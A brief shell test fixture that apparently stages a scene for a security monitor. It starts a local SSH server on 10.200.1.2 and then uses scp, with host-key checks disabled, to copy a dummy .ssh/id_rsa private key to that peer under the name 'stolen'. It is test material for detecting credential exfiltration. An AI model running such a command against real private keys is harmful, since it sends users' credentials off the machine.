# scp copies a private key (one of the scene's own), with an ssh that logs in by another.
CALLS=yes
peers() {
  mkdir -p -m 755 /run/sshd
  ssh-keygen -q -t ed25519 -N "" -f host && ssh-keygen -q -t ed25519 -N "" -f login && cp login.pub allowed && chmod 600 allowed
  printf '%s\n' "HostKey $PWD/host" "AuthorizedKeysFile $PWD/allowed" "StrictModes no" "PidFile none" "ListenAddress 10.200.1.2" "UsePAM no" \
    "PermitRootLogin yes" "Subsystem sftp internal-sftp" > sshd_config
  /usr/sbin/sshd -D -f "$PWD/sshd_config" & listening t 22
}
scene() {
  mkdir -p .ssh
  seq 100 > .ssh/id_rsa
  timeout 8 scp -q -F none -i login -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR .ssh/id_rsa "root@10.200.1.2:$PWD/stolen"
}
